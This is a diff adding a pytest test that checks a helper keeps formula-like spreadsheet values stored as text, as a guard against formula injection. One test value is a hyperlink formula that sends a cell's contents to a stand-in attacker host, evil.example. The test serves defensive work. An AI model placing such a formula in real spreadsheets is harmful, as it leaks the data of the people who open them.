@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import re
+from pathlib import Path
 
 import pytest
 
@@ -83,3 +84,17 @@ def test_scores_and_declarations_are_there_and_anonymous(workbook: object, decid
     assert not [a.name for a in decided.attendees if a.name in text]
     declarations = workbook["Declarations"]  # type: ignore[index]
     assert declarations.max_row - 1 == len(decided.declarations)
+
+
+def test_text_that_looks_like_a_formula_stays_text(tmp_path: Path) -> None:
+    from openpyxl import Workbook
+
+    from placeplanner.reports.workbook import _text_stays_text
+
+    book = Workbook()
+    sheet = book.active
+    sheet.append(['=HYPERLINK("http://evil.example/?"&A2,"click")', "=SUM(B2:B9)", '=IF(C3=0,"",B3/C3)', "+1+2"])
+    _text_stays_text(book)
+    kinds = [cell.data_type for cell in sheet[1]]
+    assert kinds == ["s", "f", "f", "s"]
+    book.save(tmp_path / "x.xlsx")
